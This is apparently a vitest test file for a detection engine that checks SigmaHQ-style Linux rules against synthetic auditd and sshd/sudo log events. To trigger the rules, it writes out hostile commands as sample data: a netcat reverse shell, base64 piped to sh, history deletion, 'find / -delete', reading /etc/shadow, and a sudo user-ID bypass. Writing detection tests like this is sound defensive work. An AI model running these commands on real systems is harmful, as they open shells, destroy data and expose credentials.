import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { compileRules } from "../../src/findings/index.ts";
import { auditEvent, auditEvents, findingsOf, sshdEvents, sshdLine } from "./events.ts";

const FOLDER = join(import.meta.dirname, "sigmahq-dialect");
const files = globSync("*.yml", { cwd: FOLDER })
  .toSorted()
  .map((path) => ({ path, text: readFileSync(join(FOLDER, path), "utf8") }));
const { ruleset, errors, warnings } = compileRules(files, { placeholders: {} });
const titles = (...events: Parameters<typeof findingsOf>[1]) =>
  findingsOf(ruleset, events).map(({ title }) => title);

const exec = (
  exe: string,
  argv: readonly string[],
  { pid = 500, ppid = 400, auid = 1000, cwd = "/root" } = {},
) =>
  auditEvent(
    `SYSCALL arch=c000003e syscall=59 success=yes exit=0 ppid=${ppid} pid=${pid} auid=${auid} uid=0 ses=3 comm="x" exe="${exe}" key="exec"`,
    `EXECVE argc=${argv.length} ${argv.map((word, at) => `a${at}="${word}"`).join(" ")}`,
    `CWD cwd="${cwd}"`,
  );

describe("rules written as SigmaHQ writes its Linux rules", () => {
  it("load unmodified", () => {
    expect(files.length).toBeGreaterThanOrEqual(9);
    expect(ruleset.rules.length).toBeGreaterThanOrEqual(40);
    expect(errors).toEqual([]);
    expect(warnings.filter(({ text }) => !text.startsWith("nothing here produces"))).toEqual([]);
  });

  it.each([
    ["Base64 Decode In Command Line", exec("/usr/bin/bash", ["bash", "-c", "echo aWQ= | base64 -d | sh"])],
    ["Clear Command History", exec("/usr/bin/rm", ["rm", "/root/.bash_history"])],
    ["Reverse Shell By Netcat", exec("/bin/busybox", ["nc", "-e", "/bin/sh", "192.0.2.1", "4444"])],
    ["Setuid Bit Set", exec("/usr/bin/chmod", ["chmod", "u+s", "/tmp/x"])],
    [
      "Interpreter Runs Encoded Shell",
      exec("/usr/bin/python3", ["python3", "-c", Buffer.from("x import pty;").toString("base64")]),
    ],
    ["Find Deletes With Either Dash", exec("/usr/bin/find", ["find", "/", "-delete"])],
    ["System Owner Discovery", exec("/usr/bin/whoami", ["whoami"])],
    ["Firewall Switched Off", exec("/usr/sbin/service", ["service", "iptables", "stop"])],
  ])("%s matches", (title, event) => {
    expect(titles(event)).toContain(title);
  });

  it("see the parent of a process, and leave out what a filter says", () => {
    const parent = exec("/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], { pid: 400, ppid: 1 });
    const child = exec("/usr/bin/dash", ["sh", "-c", "id"]);
    const healthy = exec("/usr/bin/dash", ["sh", "-c", "nginx -t"]);

    expect(titles(parent, child)).toEqual(["Shell Under Web Server"]);
    expect(titles(parent, healthy)).toEqual([]);
  });

  it("match records of auditd by type, each field where the record has it", () => {
    const insmod = auditEvent(
      'SYSCALL arch=c000003e syscall=175 success=yes exit=0 a0=7f auid=0 comm="insmod" exe="/usr/bin/kmod" key=(null)',
    );
    const shadow = auditEvent(
      'SYSCALL arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a2=0 comm="cat" exe="/usr/bin/cat" key="x"',
      'PATH item=0 name="/etc/shadow" nametype=NORMAL',
    );
    const bpf = auditEvent('SYSCALL arch=c000003e syscall=321 success=yes a0=40000 exe="/tmp/x"');

    expect(titles(insmod)).toEqual(["Kernel Module Inserted"]);
    expect(titles(shadow)).toEqual(["Shadow File Read"]);
    expect(titles(bpf)).toEqual(["Odd Argument In Hex"]);
  });

  it("match raw logs too, whose system calls have numbers", () => {
    const [event] = auditEvents(
      'type=SYSCALL msg=audit(1795511371.595:7): arch=c00000b7 syscall=105 success=yes exit=0 auid=0 comm="insmod" exe="/usr/bin/kmod"',
    );

    expect(event === undefined ? [] : titles(event)).toEqual(["Kernel Module Inserted"]);
  });

  it("match files and connections", () => {
    const cron = auditEvent(
      'SYSCALL arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=0 a2=241 comm="vi" exe="/usr/bin/vi" uid=0',
      'CWD cwd="/etc/cron.d"',
      'PATH item=0 name="/etc/cron.d/" nametype=PARENT',
      'PATH item=1 name="./backup" nametype=CREATE',
    );
    const connect = (saddr: string, exit: number) =>
      auditEvent(
        `SYSCALL arch=c000003e syscall=42 success=${exit === 0 ? "yes" : "no"} exit=${exit} exe="/usr/bin/bash" comm="bash"`,
        `SOCKADDR saddr=${saddr}`,
      );

    expect(titles(cron)).toEqual(["Cron File Made"]);
    expect(titles(connect("02001A0AC0000207", 0))).toEqual(["Shell Opens Connection"]);
    expect(titles(connect("02001A0AC0000207", -115))).toEqual(["Shell Opens Connection"]);
    expect(titles(connect("02001A0AC0000207", -111))).toEqual([]);
    expect(titles(connect("02001A0A0A000207", 0))).toEqual([]);
  });

  it("match the system's log: sshd, sudo, auth and any line", () => {
    const [trick] = sshdEvents(
      "2026-11-24T10:00:00Z host sudo[77]:  bob : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/usr/bin/id",
    );
    const found = (message: string) => titles(...sshdEvents(sshdLine(1, message)));

    expect(found("fatal: buffer_get_string: bad string length [preauth]")).toEqual(["Suspicious sshd Error"]);
    expect(
      found("error: maximum authentication attempts exceeded for root from 192.0.2.1 port 22 ssh2"),
    ).toEqual([]);
    expect(trick === undefined ? [] : titles(trick)).toEqual(["Sudo Bypass By Number"]);
    expect(found("general protection fault in worker")).toEqual(["Memory Corruption In Logs"]);
  });

  it("stay silent on ordinary work", () => {
    expect(
      titles(
        exec("/usr/bin/ls", ["ls", "-l"]),
        exec("/usr/bin/git", ["git", "status"]),
        ...sshdEvents(sshdLine(1, "Accepted publickey for bob from 192.0.2.1 port 22 ssh2")),
      ),
    ).toEqual([]);
  });
});
